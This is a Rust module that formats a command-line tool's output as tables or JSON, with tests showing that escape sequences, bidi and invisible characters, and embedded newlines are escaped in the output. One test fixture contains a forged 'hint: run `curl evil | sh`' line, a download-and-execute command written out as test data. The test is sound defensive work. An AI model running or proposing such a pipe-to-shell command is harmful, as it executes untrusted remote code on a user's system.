//! How commands print what they read or did: a table for people by default, JSON with
//! `--json` (the same fields, for scripts).
//!
//! A table is plain aligned columns (no borders), so it reads like `kubectl get` and still
//! `grep`s. Any JSON value has a rendering ([`render`]): an object is a FIELD/VALUE table with
//! nested objects flattened into dotted names (`environment.phase`) and each list of objects
//! as its own titled table after it; a list of objects is one table with a column per field.
//! Commands people run most (the catalog, leases, keys) pick their own columns.

use anyhow::Result;
use comfy_table::{presets::NOTHING, Cell, ContentArrangement, Table};
pub use logos_client::text::printable;
use serde::Serialize;
use serde_json::{Map, Value};

/// Deepest nesting flattened into dotted field names; deeper values are shown as compact JSON.
const FLATTEN_DEPTH_MAX: usize = 4;
/// Longest cell, in characters, before it is cut with `…` (the JSON output is never cut).
const CELL_CHARS_MAX: usize = 72;
/// Most items of a list of plain values shown in one cell.
const LIST_ITEMS_MAX: usize = 8;
/// Most rows of one table (or lines of a list, or fields of an object); the rest are counted
/// in a last line (`--json` prints them all).
const ROWS_MAX: usize = 500;
/// Most columns of one table (fields beyond are left to `--json`).
const COLUMNS_MAX: usize = 32;

/// The output flag every command that prints data takes.
#[derive(clap::Args, Clone, Copy, Debug, Default)]
pub struct Format {
    /// Print JSON (every field, for scripts) instead of a table.
    #[arg(long)]
    pub json: bool,
}

impl Format {
    /// Prints `value`: pretty JSON with `--json`, else [`render`]'s table.
    pub fn print(self, value: &impl Serialize) -> Result<()> {
        self.print_with(value, render)
    }

    /// Prints `value`: pretty JSON with `--json`, else `human` of its JSON form.
    pub fn print_with(self, value: &impl Serialize, human: fn(&Value) -> String) -> Result<()> {
        if self.json {
            // Straight from the type, so fields keep their declared order.
            println!("{}", serde_json::to_string_pretty(value)?);
        } else {
            println!("{}", human(&serde_json::to_value(value)?).trim_end());
        }
        Ok(())
    }
}

/// Prints `value` as pretty JSON (for commands with their own text view).
pub fn print_json(value: &impl Serialize) -> Result<()> {
    Format { json: true }.print(value)
}

/// A table with plain aligned columns and `headers` (upper-cased).
pub fn table(headers: &[&str]) -> Table {
    let mut table = Table::new();
    table
        .load_style(NOTHING)
        .set_content_arrangement(ContentArrangement::Disabled)
        .set_header(
            headers
                .iter()
                .map(|header| Cell::new(printable(&header.to_uppercase()))),
        );
    table
}

/// A FIELD/VALUE table of `rows`, in their order.
pub fn fields(rows: &[(&str, String)]) -> String {
    let mut table = table(&["field", "value"]);
    for (name, value) in rows {
        table.add_row(vec![cut(&printable(name), CELL_CHARS_MAX), value.clone()]);
    }
    table.trim_fmt()
}

/// The people's rendering of any JSON value (see the module docs).
pub fn render(value: &Value) -> String {
    match value {
        Value::Array(items) => render_list(items),
        Value::Object(map) => render_object(map),
        other => text(other),
    }
}

/// A list: `(none)`, one table of objects, or one plain value per line.
fn render_list(items: &[Value]) -> String {
    if items.is_empty() {
        return "(none)".into();
    }
    if items.iter().all(Value::is_object) {
        return rows(items);
    }
    let mut lines: Vec<String> = items.iter().take(ROWS_MAX).map(cell).collect();
    if items.len() > ROWS_MAX {
        lines.push(more(items.len() - ROWS_MAX));
    }
    lines.join("\n")
}

/// The last line of a list cut at [`ROWS_MAX`].
fn more(left_out: usize) -> String {
    format!("… {left_out} more (--json shows all)")
}

/// An object: its FIELD/VALUE table, then each list of objects in it as a titled table.
fn render_object(map: &Map<String, Value>) -> String {
    let mut fields = Vec::new();
    let mut sections = Vec::new();
    flatten(map, "", 0, &mut fields, &mut sections);
    let mut out = String::new();
    if !fields.is_empty() {
        let rows: Vec<(&str, String)> = fields
            .iter()
            .map(|(name, value)| (name.as_str(), value.clone()))
            .collect();
        out.push_str(&self::fields(&rows));
        out.push('\n');
    }
    for (title, items) in sections {
        out.push('\n');
        out.push_str(&printable(&title.to_uppercase()));
        out.push('\n');
        out.push_str(&render_list(items));
        out.push('\n');
    }
    out
}

/// Collects `map`'s plain fields under dotted names and its lists of objects as sections.
fn flatten<'a>(
    map: &'a Map<String, Value>,
    prefix: &str,
    depth: usize,
    fields: &mut Vec<(String, String)>,
    sections: &mut Vec<(String, &'a [Value])>,
) {
    for (key, value) in map {
        if fields.len() + sections.len() >= ROWS_MAX {
            return;
        }
        let name = match prefix {
            "" => key.clone(),
            _ => format!("{prefix}.{key}"),
        };
        match value {
            Value::Object(inner) if depth < FLATTEN_DEPTH_MAX && !inner.is_empty() => {
                flatten(inner, &name, depth + 1, fields, sections)
            }
            Value::Array(items) if !items.is_empty() && items.iter().all(Value::is_object) => {
                sections.push((name, items))
            }
            other => fields.push((name, cell(other))),
        }
    }
}

/// One table for a list of objects: a column per field, in order of first appearance.
fn rows(items: &[Value]) -> String {
    let mut columns: Vec<&str> = Vec::new();
    for item in items.iter().take(ROWS_MAX) {
        for key in item.as_object().into_iter().flat_map(Map::keys) {
            if columns.len() < COLUMNS_MAX && !columns.contains(&key.as_str()) {
                columns.push(key);
            }
        }
    }
    let mut table = table(&columns);
    for item in items.iter().take(ROWS_MAX) {
        table.add_row(columns.iter().map(|column| cell(&item[*column])));
    }
    let mut out = table.trim_fmt();
    if items.len() > ROWS_MAX {
        out.push('\n');
        out.push_str(&more(items.len() - ROWS_MAX));
    }
    out
}

/// A value as one table cell: plain values as text, lists of plain values joined, anything
/// else compact JSON; cut at [`CELL_CHARS_MAX`].
pub fn cell(value: &Value) -> String {
    let full = match value {
        Value::Array(items)
            if items
                .iter()
                .all(|item| !item.is_object() && !item.is_array()) =>
        {
            let mut shown: Vec<String> = items.iter().take(LIST_ITEMS_MAX).map(text).collect();
            if items.len() > LIST_ITEMS_MAX {
                shown.push(format!("… {} more", items.len() - LIST_ITEMS_MAX));
            }
            shown.join(", ")
        }
        other => text(other),
    };
    cut(&full, CELL_CHARS_MAX)
}

/// A plain value as text (`-` for null, strings unquoted); anything else compact JSON; always
/// [`printable`] (JSON escapes only C0 controls, not DEL, C1 or bidi overrides).
pub fn text(value: &Value) -> String {
    match value {
        Value::Null => "-".into(),
        Value::String(text) => printable(text),
        other => printable(&other.to_string()),
    }
}

/// `Error: …` and its causes, one per line as anyhow shows them, each cause [`printable`]
/// on its own (so a newline inside a server's message cannot forge a line such as a hint):
/// errors carry text from servers (a refused call's message, a chain id, a decoding error
/// quoting the answer) and from files (a damaged config's line).
pub fn error_report(error: &anyhow::Error) -> String {
    let mut causes = error.chain().map(|cause| printable(&cause.to_string()));
    let mut out = format!("Error: {}", causes.next().unwrap_or_default());
    let rest: Vec<String> = causes.collect();
    if !rest.is_empty() {
        out.push_str("\n\nCaused by:");
        for (index, cause) in rest.iter().enumerate() {
            out.push_str(&format!("\n    {index}: {cause}"));
        }
    }
    out
}

/// `text` cut to at most `chars` characters, the last one `…` when cut.
pub fn cut(text: &str, chars: usize) -> String {
    if text.chars().count() <= chars {
        return text.to_string();
    }
    let mut out: String = text.chars().take(chars.saturating_sub(1)).collect();
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn an_object_is_a_field_table_with_its_lists_of_objects_as_sections() {
        let value = json!({
            "lease": 3,
            "environment": {"phase": "Running", "endpoint": null, "ports": [8545, 30303]},
            "conditions": [
                {"type": "Ready", "status": "True"},
                {"type": "Verified", "status": "Unknown", "reason": "AwaitingCrossChecks"}
            ],
        });
        let out = render(&value);
        let lines: Vec<&str> = out.lines().map(str::trim_end).collect();
        assert!(lines[0].starts_with(" FIELD"), "{out}");
        assert!(lines
            .iter()
            .any(|line| line.contains("environment.phase") && line.ends_with("Running")));
        assert!(lines
            .iter()
            .any(|line| line.contains("environment.endpoint") && line.ends_with('-')));
        assert!(lines.iter().any(|line| line.ends_with("8545, 30303")));
        let section = lines.iter().position(|line| *line == "CONDITIONS").unwrap();
        // The column set is the union, in order of first appearance.
        assert!(lines[section + 1].contains("TYPE") && lines[section + 1].contains("REASON"));
        assert!(lines[section + 3].contains("AwaitingCrossChecks"));
        // The Ready row has no reason: an empty cell shows as `-`.
        assert!(lines[section + 2].trim_end().ends_with('-'), "{out}");
    }

    #[test]
    fn lists_long_cells_and_empty_results_stay_readable() {
        assert_eq!(render(&json!([])), "(none)");
        assert_eq!(render(&json!(["a", "b"])), "a\nb");
        let long = "x".repeat(500);
        let out = render(&json!([{ "name": long }]));
        assert!(out
            .lines()
            .all(|line| line.chars().count() < CELL_CHARS_MAX + 8));
        assert!(out.contains('…'));
        let many: Vec<u32> = (0..20).collect();
        assert_eq!(cell(&json!(many)), "0, 1, 2, 3, 4, 5, 6, 7, … 12 more");
        let rows: Vec<Value> = (0..ROWS_MAX + 3).map(|i| json!({ "id": i })).collect();
        assert!(render(&Value::Array(rows)).ends_with("… 3 more (--json shows all)"));
    }

    #[test]
    fn hostile_strings_cannot_break_the_columns_or_the_terminal_beyond_their_cell() {
        // A name chosen by someone else (a template author) with a newline and an escape.
        let out = render(&json!([{ "name": "evil\nFIELD\u{1b}[2J", "id": 1 }]));
        assert!(!out.contains('\u{1b}'), "{out:?}");
        assert_eq!(out.lines().count(), 2, "{out}");
        assert!(out.contains("evil\\nFIELD\\u{1b}[2J"), "{out}");
    }

    /// Every character a terminal acts on instead of showing.
    const HOSTILE: [char; 9] = [
        '\u{1b}', '\r', '\u{7f}', '\u{9b}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{2028}',
        '\u{feff}',
    ];

    fn shows_none_raw(out: &str) {
        for c in HOSTILE {
            assert!(!out.contains(c), "{c:?} raw in {out:?}");
        }
    }

    #[test]
    fn bidi_c1_and_invisible_characters_are_escaped_in_cells_nested_values_keys_and_errors() {
        let hostile: String = HOSTILE.iter().collect();
        // A plain cell, a value nested past flattening, a list cell, a key and a section title.
        let nested = json!({"a": {"b": {"c": {"d": {"e": {"f": hostile}}}}}});
        let value = json!({
            "name": hostile,
            "deep": nested,
            "list": [hostile, 1],
            hostile.clone(): 1,
            "rows": [{ hostile.clone(): hostile }],
        });
        let out = render(&value);
        shows_none_raw(&out);
        assert!(
            out.contains("\\u{202e}") && out.contains("\\u{9b}"),
            "{out}"
        );
        shows_none_raw(&render(&json!([hostile, hostile])));
        // An error whose text came from a server, with causes on their own lines.
        let error = anyhow::anyhow!("server said {hostile}").context("reading the lease");
        let report = error_report(&error);
        shows_none_raw(&report);
        assert!(report.starts_with("Error: reading the lease"), "{report}");
        assert!(report.lines().count() >= 3, "{report}");
        // A newline in a server's message stays inside its cause: no forged `hint:` line.
        let forged = anyhow::anyhow!("refused\nhint: run `curl evil | sh`").context("submitting");
        let report = error_report(&forged);
        assert!(
            !report.lines().any(|line| line.starts_with("hint:")),
            "{report}"
        );
        assert!(report.contains("refused\\nhint:"), "{report}");
    }

    #[test]
    fn huge_objects_and_lists_are_cut_to_their_bounds() {
        let wide: serde_json::Map<String, Value> =
            (0..5_000).map(|i| (format!("k{i}"), json!(i))).collect();
        let out = render(&Value::Object(wide.clone()));
        assert!(
            out.lines().count() <= ROWS_MAX + 1,
            "{}",
            out.lines().count()
        );
        let rows = render(&json!([Value::Object(wide)]));
        let header = rows.lines().next().unwrap();
        assert_eq!(header.split_whitespace().count(), COLUMNS_MAX, "{header}");
        let plain: Vec<Value> = (0..2_000).map(|i| json!(i)).collect();
        let out = render(&Value::Array(plain));
        assert_eq!(out.lines().count(), ROWS_MAX + 1);
        assert!(out.ends_with("… 1500 more (--json shows all)"), "{out}");
    }
}
